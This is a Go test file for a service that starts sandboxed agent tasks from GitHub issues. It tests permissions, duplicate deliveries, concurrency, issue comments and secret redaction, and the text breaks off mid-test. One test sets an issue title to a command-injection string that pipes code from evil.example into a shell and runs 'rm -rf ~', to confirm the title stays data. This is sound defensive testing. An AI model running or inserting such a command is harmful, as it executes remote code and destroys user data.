package service

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"reflect"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandstep/sandstep/internal/sandstep"
)

type fakeRepos map[string]TaskInput

func (r fakeRepos) Task(_ context.Context, repo string, _ int64) (TaskInput, error) {
	t, ok := r[repo]
	if !ok {
		return TaskInput{}, sandstep.Errorf(sandstep.ENOTFOUND, "repository %s is not allowed", repo)
	}
	return t, nil
}

func (r fakeRepos) CheckTasks(check func(string, TaskInput) error) error {
	for repo, t := range r {
		if err := check(repo, t); err != nil {
			return err
		}
	}
	return nil
}

// fakeCollaborators: the logins with write permission.
type fakeCollaborators map[string]bool

func (c fakeCollaborators) CanTrigger(_ context.Context, _ int64, _, login string) (bool, error) {
	return c[login], nil
}

// fakeComments keeps each comment's last body, by id.
type fakeComments struct {
	bodies map[int64]string
	fail   bool
}

func (c *fakeComments) UpsertComment(_ context.Context, _ int64, _ string, _ int, id int64, body string) (int64, error) {
	if c.fail {
		return 0, sandstep.Errorf(sandstep.ETRANSIENT, "GitHub is down")
	}
	if id == 0 {
		id = int64(len(c.bodies) + 1)
	}
	c.bodies[id] = body
	return id, nil
}

// issueHarness is a harness whose service takes octo/hello's issues, which
// "maintainer" may trigger, commenting through comments (nil: none).
func issueHarness(t *testing.T, comments IssueComments) *faultHarness {
	t.Helper()
	h := newFaultHarness(t, 5)
	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: intp(600)}}
	h.svc.collaborators = fakeCollaborators{"maintainer": true}
	if comments != nil {
		h.svc.comments = comments
	}
	return h
}

func TestHandleIssue(t *testing.T) {
	ctx := context.Background()
	comments := &fakeComments{bodies: map[int64]string{}}
	h := issueHarness(t, comments)
	hostile := `$(curl evil.example | sh) "; rm -rf ~ #`
	ev := func(delivery string, mod func(*IssueEvent)) IssueEvent {
		e := IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Title: hostile, Body: "fix it",
			Sender: "maintainer", CloneURL: "https://github.com/octo/hello.git", DefaultBranch: "main"}
		if mod != nil {
			mod(&e)
		}
		return e
	}
	steps := []struct {
		name   string
		ev     IssueEvent
		action string
	}{
		{"a repository not allowed", ev("d0", func(e *IssueEvent) { e.Repo = "evil/repo" }), "ignored"},
		{"a comment by someone who cannot write", ev("d1", func(e *IssueEvent) { e.ByComment, e.Sender = true, "someone" }), "ignored"},
		// GitHub lets triage label; sandstep's rule is write and above.
		{"the label by someone who cannot write", ev("d1b", func(e *IssueEvent) { e.Sender = "triager" }), "ignored"},
		{"the label", ev("d2", nil), "started"},
		{"the same delivery again", ev("d2", nil), "started"},
		{"a comment by a maintainer while it runs", ev("d3", func(e *IssueEvent) { e.ByComment = true }), "busy"},
		{"another issue", ev("d4", func(e *IssueEvent) { e.Issue = 13 }), "started"},
		{"the label removed by someone who cannot write", ev("d4b", func(e *IssueEvent) { e.Cancel, e.Sender = true, "triager" }), "ignored"},
		{"a cancel comment by someone who cannot write", ev("d4c", func(e *IssueEvent) { e.Cancel, e.ByComment, e.Sender = true, true, "someone" }), "ignored"},
		{"cancel", ev("d5", func(e *IssueEvent) { e.Cancel = true }), "cancelled"},
		{"cancel again", ev("d6", func(e *IssueEvent) { e.Cancel = true }), "ignored"},
	}
	started := map[string]string{}
	for _, st := range steps {
		out, err := h.svc.HandleIssue(ctx, st.ev)
		if err != nil {
			t.Fatalf("%s: %v", st.name, err)
		}
		if out.Action != st.action {
			t.Fatalf("%s: %+v, want %s", st.name, out, st.action)
		}
		if out.Action == "started" {
			if prev, ok := started[st.ev.Delivery]; ok && prev != out.TaskID {
				t.Errorf("%s: a redelivery started %s beside %s", st.name, out.TaskID, prev)
			}
			started[st.ev.Delivery] = out.TaskID
		}
	}
	tk, err := h.store.GetTask(ctx, started["d2"])
	if err != nil {
		t.Fatal(err)
	}
	if body := comments.bodies[tk.IssueComment]; !strings.Contains(body, "Asked again while it runs by @maintainer") || len(comments.bodies) != 2 {
		t.Errorf("comments %v: want the second ask noted in the first task's one comment", comments.bodies)
	}
	if tk.Owner != "github:octo/hello" || tk.Metadata.Repo != "octo/hello" || tk.Metadata.IssueID != "12" || tk.Metadata.InstallationID != "7" {
		t.Errorf("task %+v, want the repository's, with the issue's metadata", tk)
	}
	if tk.Status != sandstep.TaskCancelled || tk.Command != "./agent.sh" {
		t.Errorf("task %s %q, want cancelled, the configured command", tk.Status, tk.Command)
	}
	raw, err := h.reaper.objects.Get(ctx, specKey(tk.ID))
	if err != nil {
		t.Fatal(err)
	}
	var spec TaskInput
	if err := json.Unmarshal(raw, &spec); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(spec.Command, "curl") || spec.Sandbox.Git == nil || spec.Sandbox.Git.URL != "https://github.com/octo/hello.git" {
		t.Errorf("spec %+v: want the configured command and the repository cloned", spec)
	}
	var issue map[string]any
	if len(spec.Sandbox.Files) != 1 || spec.Sandbox.Files[0].Path != IssueFile {
		t.Fatalf("files %+v, want the issue file", spec.Sandbox.Files)
	}
	data, _ := base64.StdEncoding.DecodeString(spec.Sandbox.Files[0].ContentBase64)
	if err := json.Unmarshal(data, &issue); err != nil || issue["title"] != hostile {
		t.Errorf("issue file %s, want the title as data", data)
	}
}

// The issue's one comment says the task started, then how it ended; a
// GitHub that cannot be told fails nothing.
func TestIssueComment(t *testing.T) {
	ctx := context.Background()
	comments := &fakeComments{bodies: map[int64]string{}}
	h := issueHarness(t, comments)
	taskID := startedIssueTask(t, h)
	tk, _ := h.store.GetTask(ctx, taskID)
	if tk.IssueComment != 1 || !strings.Contains(comments.bodies[1], "started task `"+tk.ID+"`") {
		t.Fatalf("comment %d: %q", tk.IssueComment, comments.bodies[1])
	}
	if _, err := h.svc.CleanUpTask(ctx, tk.ID, &TaskFailure{Error: "Sandbox.Transient", Cause: "daytona down"}); err == nil {
		t.Fatal("a failed task's clean-up answered no outcome")
	}
	if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], "failed") || !strings.Contains(comments.bodies[1], "daytona down") {
		t.Errorf("comments %v, want the one comment edited to say it failed", comments.bodies)
	}

	comments.fail = true
	out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d2", Repo: "octo/hello", InstallationID: 7, Issue: 4, Sender: "maintainer"})
	if err != nil || out.Action != "started" {
		t.Errorf("with GitHub down: %+v, %v; want the task started all the same", out, err)
	}
}

// startWatcher is a state machine whose Start looks at the task's record
// as the execution's first step would, and fails if told to.
type startWatcher struct {
	fakeMachine
	tasks   Tasks
	comment int64 // the record's comment id when the execution started
	fail    bool
}

func (m *startWatcher) Start(ctx context.Context, name string, _ []byte) (string, error) {
	if t, err := m.tasks.GetTask(ctx, name); err == nil {
		m.comment = t.IssueComment
	}
	if m.fail {
		return "", sandstep.Errorf(sandstep.ETRANSIENT, "Step Functions is down")
	}
	return "arn:exec", nil
}

// The issue's comment is written, and its id kept, before the execution
// starts, so no step of it writes a second one; an execution that cannot
// start leaves the comment saying the task failed.
func TestIssueCommentBeforeExecution(t *testing.T) {
	tests := []struct {
		name string
		fail bool
		says string
	}{
		{"started", false, "started task"},
		{"not started", true, "failed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			comments := &fakeComments{bodies: map[int64]string{}}
			h := issueHarness(t, comments)
			m := &startWatcher{tasks: h.store, fail: tt.fail}
			h.svc.machine = m
			_, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
			if (err != nil) != tt.fail {
				t.Fatalf("HandleIssue: %v", err)
			}
			if m.comment != 1 {
				t.Errorf("the execution started with comment %d recorded, want 1", m.comment)
			}
			if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], tt.says) {
				t.Errorf("comments %v, want one saying %q", comments.bodies, tt.says)
			}
		})
	}
}

// laggingList lists tasks as an index that lags behind the records does:
// the entries the test froze, whatever the records say now.
type laggingList struct {
	Tasks
	entries []*sandstep.Task
}

func (s *laggingList) ListTasks(context.Context, string, int, string, ...sandstep.TaskStatus) ([]*sandstep.Task, string, error) {
	out := make([]*sandstep.Task, len(s.entries))
	for i, t := range s.entries {
		c := *t
		out[i] = &c
	}
	return out, "", nil
}

// The busy note and the issue's live task come from the task's record,
// read again, not from a list entry that lags behind it.
func TestHandleIssueStaleList(t *testing.T) {
	ctx := context.Background()
	comments := &fakeComments{bodies: map[int64]string{}}
	h := issueHarness(t, comments)
	index := &laggingList{Tasks: h.svc.tasks}
	h.svc.tasks = index
	ev := func(delivery string) IssueEvent {
		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: true}
	}
	first, err := h.svc.HandleIssue(ctx, ev("d1"))
	if err != nil || first.Action != "started" {
		t.Fatalf("first = %+v, %v", first, err)
	}
	// The index has the task as it was first written: no comment yet.
	tk, err := h.store.GetTask(ctx, first.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	entry := *tk
	entry.IssueComment = 0
	index.entries = []*sandstep.Task{&entry}

	tests := []struct {
		name   string
		before func()
		want   string
	}{
		{"asked again while it runs", nil, "busy"},
		{"asked again once it ended", func() {
			if _, err := h.svc.CancelTask(ctx, Call{UserID: sandstep.RepoUser("octo/hello")}, first.TaskID); err != nil {
				t.Fatal(err)
			}
		}, "started"},
	}
	for i, tt := range tests {
		if tt.before != nil {
			tt.before()
		}
		out, err := h.svc.HandleIssue(ctx, ev("d"+strconv.Itoa(i+2)))
		if err != nil || out.Action != tt.want {
			t.Fatalf("%s: %+v, %v; want %s", tt.name, out, err, tt.want)
		}
		if tt.want == "busy" {
			if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], "Asked again while it runs by @maintainer") {
				t.Errorf("%s: comments %v, want the note in the task's one comment", tt.name, comments.bodies)
			}
		}
	}

	// A list that does not show the task yet: a cancel finds it by the
	// issue's claim.
	index.entries = nil
	other := ev("d8")
	other.Issue = 14
	if out, err := h.svc.HandleIssue(ctx, other); err != nil || out.Action != "started" {
		t.Fatalf("another issue = %+v, %v", out, err)
	}
	other.Delivery, other.Cancel = "d9", true
	if out, err := h.svc.HandleIssue(ctx, other); err != nil || out.Action != "cancelled" {
		t.Errorf("a cancel the list does not show the task to = %+v, %v; want cancelled", out, err)
	}
}

// listBarrier holds each of the first n lists until all n have listed, as
// deliveries that arrive together all read the list before any writes.
type listBarrier struct {
	Tasks
	mu      sync.Mutex
	n       int
	arrived sync.WaitGroup
}

func (b *listBarrier) ListTasks(ctx context.Context, owner string, limit int, cursor string, statuses ...sandstep.TaskStatus) ([]*sandstep.Task, string, error) {
	page, next, err := b.Tasks.ListTasks(ctx, owner, limit, cursor, statuses...)
	b.mu.Lock()
	wait := b.n > 0
	if wait {
		b.n--
		b.arrived.Done()
	}
	b.mu.Unlock()
	if wait {
		b.arrived.Wait()
	}
	return page, next, err
}

// Deliveries that start one issue's task at once (a label and comments,
// each its own delivery) start one task, against the real store: the
// others are answered busy, naming it. Its end lets the issue start again.
func TestHandleIssueConcurrent(t *testing.T) {
	const n = 6
	ctx := context.Background()
	h := issueHarness(t, nil)
	barrier := &listBarrier{Tasks: h.svc.tasks, n: n}
	barrier.arrived.Add(n)
	h.svc.tasks = barrier
	ev := func(delivery string) IssueEvent {
		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: delivery != "d0"}
	}
	outs := make([]*IssueOutcome, n)
	errs := make([]error, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() { outs[i], errs[i] = h.svc.HandleIssue(ctx, ev("d"+strconv.Itoa(i))) })
	}
	wg.Wait()
	started := ""
	for i := range n {
		if errs[i] != nil {
			t.Fatalf("delivery %d: %v", i, errs[i])
		}
		if outs[i].Action == "started" {
			if started != "" {
				t.Fatalf("deliveries started %s and %s for one issue", started, outs[i].TaskID)
			}
			started = outs[i].TaskID
		}
	}
	if started == "" {
		t.Fatalf("no delivery started the task: %+v", outs)
	}
	for i, out := range outs {
		if out.TaskID != started || (out.Action != "started" && out.Action != "busy") {
			t.Errorf("delivery %d: %+v, want busy with %s", i, out, started)
		}
	}
	all, _, err := h.store.ListTasks(ctx, sandstep.RepoUser("octo/hello"), 100, "")
	if err != nil || len(all) != 1 {
		t.Fatalf("the repository's tasks: %d, %v; want 1", len(all), err)
	}

	if out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d-cancel", Cancel: true, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer"}); err != nil || out.Action != "cancelled" {
		t.Fatalf("cancel = %+v, %v", out, err)
	}
	h.clock.Set(h.clock.Now().Add(time.Second)) // asked for after the cancel
	if out, err := h.svc.HandleIssue(ctx, ev("d-again")); err != nil || out.Action != "started" || out.TaskID == started {
		t.Fatalf("after the cancel = %+v, %v; want a new task started", out, err)
	}
}

// heldComments blocks the first new comment until release closes: the
// start's announcement on its way to GitHub.
type heldComments struct {
	fakeComments
	mu      sync.Mutex
	held    bool
	entered chan struct{}
	release chan struct{}
}

func (c *heldComments) UpsertComment(ctx context.Context, inst int64, repo string, issue int, id int64, body string) (int64, error) {
	c.mu.Lock()
	hold := !c.held && id == 0
	c.held = c.held || hold
	c.mu.Unlock()
	if hold {
		close(c.entered)
		<-c.release
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.fakeComments.UpsertComment(ctx, inst, repo, issue, id, body)
}

// A trigger answered busy while the task's start is still creating its
// comment writes no comment of its own: the issue has one comment.
func TestBusyWhileTheStartIsCommenting(t *testing.T) {
	ctx := context.Background()
	comments := &heldComments{fakeComments: fakeComments{bodies: map[int64]string{}}, entered: make(chan struct{}), release: make(chan struct{})}
	h := issueHarness(t, comments)
	ev := func(delivery string, byComment bool) IssueEvent {
		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: byComment}
	}
	first := make(chan *IssueOutcome, 1)
	go func() {
		out, err := h.svc.HandleIssue(ctx, ev("label", false))
		if err != nil {
			t.Error(err)
		}
		first <- out
	}()
	<-comments.entered
	out, err := h.svc.HandleIssue(ctx, ev("comment", true))
	close(comments.release)
	if err != nil || out.Action != "busy" {
		t.Fatalf("the second trigger = %+v, %v; want busy", out, err)
	}
	if out := <-first; out == nil || out.Action != "started" {
		t.Fatalf("the first trigger = %+v; want started", out)
	}
	if len(comments.bodies) != 1 {
		t.Fatalf("the issue has %d comments for its one task, want 1: %v", len(comments.bodies), comments.bodies)
	}
}

// A cancel while the task's start is creating its comment leaves the
// issue one comment: the start keeps the comment's id on the cancelled
// task, and the clean-up of the execution it started edits that comment.
func TestCancelWhileTheStartIsCommenting(t *testing.T) {
	ctx := context.Background()
	comments := &heldComments{fakeComments: fakeComments{bodies: map[int64]string{}}, entered: make(chan struct{}), release: make(chan struct{})}
	h := issueHarness(t, comments)
	ev := IssueEvent{Delivery: "labeled", Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer"}
	first := make(chan *IssueOutcome, 1)
	go func() {
		out, err := h.svc.HandleIssue(ctx, ev)
		if err != nil {
			t.Error(err)
		}
		first <- out
	}()
	<-comments.entered
	cancel := ev
	cancel.Delivery, cancel.Cancel = "unlabeled", true
	out, err := h.svc.HandleIssue(ctx, cancel)
	close(comments.release)
	if err != nil || out.Action != "cancelled" {
		t.Fatalf("the cancel = %+v, %v; want cancelled", out, err)
	}
	started := <-first
	if started == nil || started.TaskID != out.TaskID {
		t.Fatalf("the start = %+v; want the task cancelled, %s", started, out.TaskID)
	}
	if _, err := h.svc.CleanUpTask(ctx, started.TaskID, nil); err != nil && !errors.As(err, new(*OutcomeError)) {
		t.Fatal(err)
	}
	if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], "cancelled") {
		t.Errorf("the issue has comments %v; want one, saying the task was cancelled", comments.bodies)
	}
}

// readThenRun runs then once, after the first GetTask read: another
// writer landing between a read and the write that follows it.
type readThenRun struct {
	Tasks
	then func()
}

func (r *readThenRun) GetTask(ctx context.Context, id string) (*sandstep.Task, error) {
	t, err := r.Tasks.GetTask(ctx, id)
	if then := r.then; then != nil {
		r.then = nil
		then()
	}
	return t, err
}

// The start's comment, landing after a cancel, keeps its id only if no
// other comment's was kept meanwhile: the ended comment's id, kept between
// the start's read and its write, stays the task's.
func TestTheStartKeepsNoIDOverTheEndedComment(t *testing.T) {
	ctx := context.Background()
	h := issueHarness(t, nil)
	taskID := startedIssueTask(t, h)
	comments := &fakeComments{bodies: map[int64]string{}}
	h.svc.comments = comments
	queued, err := h.store.GetTask(ctx, taskID)
	if err != nil {
		t.Fatal(err)
	}
	queued.IssueComment = 0 // the start's view: no comment yet
	cancelled, err := h.store.TransitionTask(ctx, taskID, []sandstep.TaskStatus{sandstep.TaskQueued}, sandstep.TaskCancelled,
		func(r *sandstep.Task) { r.IssueComment = 0 })
	if err != nil {
		t.Fatal(err)
	}
	h.svc.tasks = &readThenRun{Tasks: h.store, then: func() { h.svc.commentOnIssue(ctx, cancelled, "ended: cancelled", false) }}
	h.svc.commentOnIssue(ctx, queued, "started", false)
	rec, err := h.store.GetTask(ctx, taskID)
	if err != nil {
		t.Fatal(err)
	}
	if got := comments.bodies[rec.IssueComment]; got != "ended: cancelled" {
		t.Errorf("the task keeps comment %d, %q; want the ended one (comments %v)", rec.IssueComment, got, comments.bodies)
	}
}

// answerLostOnce makes the first TransitionTask's write land and then
// makes it again, as the store does when a write's answer is lost.
type answerLostOnce struct {
	Tasks
	done bool
}

func (a *answerLostOnce) TransitionTask(ctx context.Context, id string, from []sandstep.TaskStatus, to sandstep.TaskStatus, update func(*sandstep.Task)) (*sandstep.Task, error) {
	if !a.done {
		a.done = true
		if _, err := a.Tasks.TransitionTask(ctx, id, from, to, update); err != nil {
			return nil, err
		}
	}
	return a.Tasks.TransitionTask(ctx, id, from, to, update)
}

// A comment's id whose write is made again finds its own id kept, and
// keeps it: the task the caller holds says the same as the record.
func TestACommentIDKeptTwiceIsKept(t *testing.T) {
	ctx := context.Background()
	h := issueHarness(t, nil)
	taskID := startedIssueTask(t, h)
	h.svc.comments = &fakeComments{bodies: map[int64]string{}}
	tk, err := h.store.TransitionTask(ctx, taskID, []sandstep.TaskStatus{sandstep.TaskQueued}, sandstep.TaskQueued,
		func(r *sandstep.Task) { r.IssueComment = 0 })
	if err != nil {
		t.Fatal(err)
	}
	h.svc.tasks = &answerLostOnce{Tasks: h.store}
	h.svc.commentOnIssue(ctx, tk, "started", false)
	rec, err := h.store.GetTask(ctx, taskID)
	if err != nil {
		t.Fatal(err)
	}
	if rec.IssueComment == 0 || tk.IssueComment != rec.IssueComment {
		t.Errorf("the record keeps comment %d, the caller's task %d; want the same, not 0", rec.IssueComment, tk.IssueComment)
	}
}

// endingComments ends the task, and writes its ended comment, just before
// the first busy note lands: the note must not be the issue's last word.
type endingComments struct {
	fakeComments
	end func()
}

func (c *endingComments) UpsertComment(ctx context.Context, inst int64, repo string, issue int, id int64, body string) (int64, error) {
	if c.end != nil && strings.Contains(body, "Asked again while it runs") {
		end := c.end
		c.end = nil
		end()
	}
	return c.fakeComments.UpsertComment(ctx, inst, repo, issue, id, body)
}

// A trigger answered busy as the task ends: the task's end writes the
// comment that says so, then the busy note lands on it. The issue still
// ends up saying how the task ended.
func TestBusyNoteAsTheTaskEnds(t *testing.T) {
	ctx := context.Background()
	comments := &endingComments{fakeComments: fakeComments{bodies: map[int64]string{}}}
	h := issueHarness(t, comments)
	ev := func(delivery string) IssueEvent {
		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: true}
	}
	first, err := h.svc.HandleIssue(ctx, ev("d1"))
	if err != nil || first.Action != "started" {
		t.Fatalf("first = %+v, %v", first, err)
	}
	comments.end = func() {
		ended, err := h.store.TransitionTask(ctx, first.TaskID, []sandstep.TaskStatus{sandstep.TaskQueued, sandstep.TaskRunning}, sandstep.TaskCancelled, func(*sandstep.Task) {})
		if err != nil {
			t.Fatal(err)
		}
		comments.bodies[ended.IssueComment], _ = h.svc.endedComment(ctx, ended)
	}
	out, err := h.svc.HandleIssue(ctx, ev("d2"))
	if err != nil || out.Action != "busy" {
		t.Fatalf("asked again = %+v, %v; want busy", out, err)
	}
	if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], "`"+first.TaskID+"` cancelled") {
		t.Errorf("the issue's comments: %v, want its one comment to say the task was cancelled", comments.bodies)
	}
}

// A deployment with a webhook but no GitHub App answers an issue's
// delivery, saying why nothing starts, rather than failing it.
func TestHandleIssueWithoutAnApp(t *testing.T) {
	h := newFaultHarness(t, 5)
	out, err := h.svc.HandleIssue(context.Background(), IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer"})
	if err != nil || out.Action != "ignored" || !strings.Contains(out.Why, "GITHUB_APP_ID") {
		t.Errorf("HandleIssue = %+v, %v; want ignored, naming GITHUB_APP_ID", out, err)
	}
}

// limitedComments refuses the next refusals comments for GitHub's rate
// limit, asking for wait.
type limitedComments struct {
	fakeComments
	refusals int
	wait     time.Duration
	asked    int
}

func (c *limitedComments) UpsertComment(ctx context.Context, inst int64, repo string, issue int, id int64, body string) (int64, error) {
	c.asked++
	if c.refusals > 0 {
		c.refusals--
		return 0, gitHubLimit(c.wait)
	}
	return c.fakeComments.UpsertComment(ctx, inst, repo, issue, id, body)
}

// The ended comment, written by the clean-up step, waits GitHub's rate
// limit out when the step has the time; a webhook's comment (GitHub gives
// a delivery 10 s) never waits.
func TestIssueCommentWaitsOutGitHubsRateLimit(t *testing.T) {
	tests := []struct {
		name string
		step time.Duration // the step's time
		// cleanUp is whose ended comment is refused; nil: the start's is.
		cleanUp func(*Service, context.Context, string, *TaskFailure) (*sandstep.Task, error)
		asked   int    // GitHub, for the refused comment
		says    string // the issue's comment
	}{
		{name: "the clean-up step's ended comment", step: 2 * time.Minute, cleanUp: (*Service).CleanUpTaskStep, asked: 2, says: "` failed"},
		{name: "the reaper's ended comment", step: 2 * time.Minute, cleanUp: (*Service).CleanUpTask, asked: 1, says: "started task"},
		{name: "the webhook's start comment", step: 10 * time.Second, asked: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			comments := &limitedComments{fakeComments: fakeComments{bodies: map[int64]string{}}, wait: 100 * time.Millisecond}
			h := issueHarness(t, comments)
			h.clock.Set(time.Now()) // the step's deadline is the wall clock's
			ctx, cancel := context.WithTimeout(context.Background(), tt.step)
			defer cancel()
			if tt.cleanUp == nil {
				comments.refusals = 1
			}
			out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer"})
			if err != nil || out.Action != "started" {
				t.Fatalf("HandleIssue = %+v, %v", out, err)
			}
			if tt.cleanUp != nil {
				comments.refusals, comments.asked = 1, 0
				var outcome *OutcomeError
				if _, err := tt.cleanUp(h.svc, ctx, out.TaskID, &TaskFailure{Error: "Sandbox.Internal", Cause: "gone"}); !errors.As(err, &outcome) {
					t.Fatalf("CleanUpTask = %v, want the task's failure", err)
				}
			}
			if comments.asked != tt.asked {
				t.Errorf("GitHub asked %d times, want %d", comments.asked, tt.asked)
			}
			if tt.says == "" && len(comments.bodies) != 0 || tt.says != "" && (len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], tt.says)) {
				t.Errorf("the issue's comments: %v, want one saying %q", comments.bodies, tt.says)
			}
		})
	}
}

// The issue's comment, which anyone may read on a public repository,
// quotes the task's output with its secret values and GitHub tokens
// hidden, a secret cut by the quote's start too; nothing when its secrets
// cannot be read.
func TestTheCommentHidesTheTasksSecrets(t *testing.T) {
	const ref = "ssm:/sandstep/secrets/users/github:octo/hello/key"
	const secret = "sk-live-canary-0123456789"
	token := "ghs_" + strings.Repeat("aB3", 12)
	// The read starts at seq 2, inside a secret seq 1 began, before 20
	// copies of it that become one shorter [REDACTED]: the quote must not
	// reach back into the cut one.
	cutCopies := []keptChunk{{1, "stdout", 0, 1, strings.Repeat("p", 100) + secret[:15]},
		{2, "stderr", 0, 2, strings.Repeat("e", 2100)}, {2, "stdout", 0, 2, secret[15:] + strings.Repeat(secret, 20) + strings.Repeat("x", 50)}}
	tests := []struct {
		name      string
		noSecrets bool
		output    string
		readable  bool
		chunks    []keptChunk // stored in turn (inTurn); one stdout chunk of output when nil
		cut       string      // the stream MAX_TASK_LOG_BYTES cut
		gone      string      // the task failed, its last output not stored for this
		want      string      // quoted; "" for no quote
		never     []string
	}{
		{name: "a secret value", output: "key=" + secret + "\ndone\n", readable: true,
			want: "key=[REDACTED]\ndone", never: []string{secret}},
		{name: "a secret cut by the read's start, the text shrunk after it", chunks: cutCopies, readable: true,
			want: strings.Repeat("e", commentTail-60) + "[REDACTED]" + strings.Repeat("x", 50), never: []string{"6789"}},
		{name: "a short stream read from its first byte, not whole", readable: true, chunks: []keptChunk{
			{1, "stdout", 0, 1, strings.Repeat("z", 10)}, {2, "stdout", 0, 2, strings.Repeat("a", 3000)},
			{3, "stderr", 0, 3, "fatal: push rejected\n"}, {4, "stdout", 0, 4, strings.Repeat("b", 100)}},
			want: strings.Repeat("a", commentTail-121) + "fatal: push rejected\n" + strings.Repeat("b", 100)},
		{name: "a stream's last line, its earlier output left out of the read", readable: true, chunks: []keptChunk{
			{1, "stderr", 0, 1, "warning: old\n"}, {2, "stdout", 0, 2, strings.Repeat("o", 4000)},
			{3, "stderr", 0, 3, "Error: the build failed: missing module foo\n"}},
			want: strings.Repeat("o", commentTail-43) + "Error: the build failed: missing module foo"},
		{name: "the rest of a token cut by the read's start", readable: true, chunks: []keptChunk{
			{1, "stdout", 0, 1, strings.Repeat("x", 10) + token[:10]}, {2, "stderr", 0, 2, strings.Repeat("e", 2600)}, {2, "stdout", 0, 2, token[10:] + "\ndone\n"}},
			want: strings.Repeat("e", commentTail-15) + "[REDACTED]\ndone", never: []string{token[10:26]}},
		{name: "a [REDACTED] at the quote's start, whole", readable: true, output: secret + strings.Repeat("x", commentTail-5),
			want: "[REDACTED]" + strings.Repeat("x", commentTail-5)},
		{name: "a GitHub token cut by the quote's start, no secrets", noSecrets: true, output: token + "\n" + strings.Repeat("x", commentTail-20) + "\n",
			want: "[REDACTED]\n" + strings.Repeat("x", commentTail-20), never: []string{token[len(token)-8:]}},
		{name: "a value under six bytes", output: "key=" + secret + " pin=12345\n", readable: true,
			want: "key=[REDACTED] pin=12345"},
		{name: "a secret cut by the quote's start", output: secret + strings.Repeat("x", commentTail-10) + "\n", readable: true,
			want: "[REDACTED]" + strings.Repeat("x", commentTail-10), never: []string{"6789"}},
		{name: "a GitHub token", output: "cloned with " + token + "\n", readable: true,
			want: "cloned with [REDACTED]", never: []string{token[:10]}},
		{name: "no secret in it", output: "all good\n", readable: true, want: "all good"},
		{name: "a secret cut by MAX_TASK_LOG_BYTES", output: "env:\nKEY=" + secret[:18], readable: true, cut: "stdout",
			want: "env:\nKEY=[REDACTED]\n[sandstep: the output was cut at 27 bytes (MAX_TASK_LOG_BYTES)]", never: []string{secret[12:18]}},
		{name: "a secret cut where storing stopped", output: "env:\nKEY=" + secret[:18], readable: true, gone: unstoredGone,
			want: "env:\nKEY=[REDACTED]\n[sandstep: any output after this point was not stored: " + unstoredGone + "]", never: []string{secret[12:18]}},
		{name: "a GitHub token cut by the output's end", output: "auth " + token[:20], readable: true, cut: "stdout",
			want: "auth [REDACTED]\n[sandstep: the output was cut at 25 bytes (MAX_TASK_LOG_BYTES)]", never: []string{token[4:20]}},
		{name: "a secret split by the other stream's chunk", readable: true, chunks: []keptChunk{
			{1, "stdout", 0, 1, "KEY=" + secret[:12]}, {2, "stderr", 0, 2, "warning: slow\n"}, {3, "stdout", 0, 3, secret[12:] + "\ndone\n"}},
			want: "KEY=[REDACTED]warning: slow\n[REDACTED]\ndone", never: []string{secret[:12], secret[12:]}},
		{name: "a secret cut on stdout, stderr stored after it", readable: true, cut: "stderr", chunks: []keptChunk{
			{1, "stdout", 0, 1, "KEY=" + secret[:18]}, {2, "stderr", 0, 2, "error: killed\n"}},
			want: "KEY=[REDACTED]error: killed\n\n[sandstep: the output was cut at 36 bytes (MAX_TASK_LOG_BYTES)]", never: []string{secret[12:18]}},
		{name: "two GitHub tokens side by side", output: "auth " + token + "ghp_" + strings.Repeat("Zq9", 12) + "\n", readable: true,
			want: "auth [REDACTED]", never: []string{"Zq9Zq9"}},
		{name: "secrets that cannot be read", output: "key=" + secret + "\n", never: []string{secret, "The end of its output"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			h := issueHarness(t, nil)
			task := TaskInput{Command: "./agent.sh", TimeoutSeconds: intp(600),
				Sandbox: CreateSandboxInput{SecretEnv: map[string]string{"KEY": ref, "PIN": ref + "-pin"}}}
			if tt.noSecrets {
				task.Sandbox.SecretEnv = nil
			}
			h.svc.repos = fakeRepos{"octo/hello": task}
			h.svc.secrets = fakeSecrets{ref: secret, ref + "-pin": "12345"}
			taskID := startedIssueTask(t, h)
			chunks := tt.chunks
			if chunks == nil {
				chunks = []keptChunk{{1, "stdout", 0, 1, tt.output}}
			}
			chunks, bytes := inTurn(chunks)
			putChunks(t, h.svc.objects, taskID, chunks)
			to, now := sandstep.TaskQueued, h.clock.Now().UTC()
			if tt.gone != "" {
				to = sandstep.TaskFailed
			}
			tk, err := h.store.TransitionTask(ctx, taskID, []sandstep.TaskStatus{sandstep.TaskQueued}, to, func(r *sandstep.Task) {
